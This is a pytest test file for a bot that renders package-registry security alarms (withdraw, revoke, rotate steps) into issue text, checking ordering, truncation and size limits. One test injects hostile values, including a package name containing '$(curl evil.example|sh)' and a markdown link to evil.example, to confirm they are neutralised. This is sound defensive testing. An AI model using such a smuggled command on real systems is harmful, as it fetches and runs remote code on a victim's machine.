"""An alarm in words: each kind says what was seen, what it means and what to do, whatever the names are."""

from dataclasses import replace
from html import unescape

import pytest

from bot.evaluation.package_alerts import Alarm, AlarmKind, Trouble
from bot.model.core_types import RegistryId
from bot.packages.versions import Package
from bot.registries import load_catalogue
from bot.registries.withdrawal import DATA, withdrawal
from bot.rendering.alarm import MEANS, MOST_BODY, also, render
from bot.rendering.markdown import JOINER
from bot.rendering.marker import ALARM, Marker
from tests.bot.checks.alerts.observed_versions import CLI, HERE, NOON

REGISTRIES = load_catalogue().registries


def alarm(kind: AlarmKind, *abouts: str, package: Package | None = CLI) -> Alarm:
    troubles = tuple(Trouble(kind, about, f"{about} was seen", NOON, ("it is told",)) for about in abouts)
    return Alarm(kind, package, package.registry if package else RegistryId("npm"), HERE, NOON, troubles)


def body(told: Alarm) -> str:
    return unescape(render(told, REGISTRIES).body).replace(JOINER, "")


@pytest.mark.parametrize("kind", AlarmKind)
def test_each_kind_says_what_was_seen_what_it_means_and_what_to_do(kind: AlarmKind) -> None:
    told = alarm(kind, "1.0.1", "1.0.2", package=None if kind is AlarmKind.UNREACHABLE else CLI)
    said = body(told)

    places = [said.index(part) for part in ("1.0.1 was seen", "1.0.2 was seen", MEANS[kind], "First steps", "1. ")]
    assert places == sorted(places)
    assert render(told, REGISTRIES).title.startswith("Alarm: ")
    assert str(Marker(ALARM, told.key)).startswith("<!-- wharfinger alarm ")


@pytest.mark.parametrize(
    "kind", [AlarmKind.UNACCOUNTED, AlarmKind.STEPPED_BACK, AlarmKind.STEP_NOT_DONE, AlarmKind.BURST]
)
def test_withdraw_comes_before_revoke_and_revoke_before_rotate(kind: AlarmKind) -> None:
    said = body(alarm(kind, "1.0.1"))
    assert said.index("npm unpublish @acme/cli@1.0.1") < said.index("Revoke every token") < said.index("Rotate")


def test_what_joined_is_told_in_a_comment() -> None:
    told = alarm(AlarmKind.UNACCOUNTED, "1.0.1", "1.0.2")
    assert "1.0.2 was seen" in unescape(also(told, told.troubles[1:]))
    assert "1.0.1 was seen" not in unescape(also(told, told.troubles[1:]))


def test_hundreds_fit_into_one_issue() -> None:
    said = render(alarm(AlarmKind.UNACCOUNTED, *(f"1.0.{patch}" for patch in range(400))), REGISTRIES)
    assert "And 370 more." in said.body
    assert len(said.body) < 60_000


def test_hundreds_that_join_at_once_fit_into_one_comment() -> None:
    told = alarm(AlarmKind.UNACCOUNTED, *(f"1.0.{patch}" for patch in range(900)))
    said = also(told, told.troubles[1:])
    assert "1.0.1 was seen" in unescape(said)
    assert "And 869 more." in said
    assert len(said.encode()) < MOST_BODY


def test_what_is_long_leaves_something_of_what_was_seen() -> None:
    long = tuple(f"1.0.{patch}-{'x' * 4_000}" for patch in range(20))
    told = alarm(AlarmKind.UNACCOUNTED, *long)
    for said in (render(told, REGISTRIES).body, also(told, told.troubles)):
        assert "1.0.0-xxx" in unescape(said).replace(JOINER, "")
        assert len(said.encode()) < MOST_BODY
    assert "First steps" in render(told, REGISTRIES).body


def test_no_name_comes_alive() -> None:
    hostile = "1.0.1`](https://evil.example) @acme <!-- wharfinger alarm x -->\n# $(id)"
    named = replace(CLI, name="@acme/$(curl evil.example|sh)")
    said = render(alarm(AlarmKind.UNACCOUNTED, hostile, package=named), REGISTRIES)

    assert "<!--" not in said.body
    assert "](https" not in said.body
    assert "npm unpublish" not in said.body  # nobody is given a command with such a name in it
    assert said.title.isprintable()


def test_every_registry_with_a_way_back_is_known_and_gives_one() -> None:
    ways = {registry: withdrawal(registry, "acme-cli", "1.0.1") for registry in REGISTRIES}
    known = {registry for registry, way in ways.items() if way is not None}
    watched = {registry for registry, each in REGISTRIES.items() if each.etiquette is not None}

    assert watched <= known
    assert DATA.read_text().count('"effect"') == len(known)
    for way in filter(None, ways.values()):
        assert (way.url is None) != (way.command is None)
        assert way.way
        assert way.effect
        assert "{" not in f"{way.url}{way.command}"
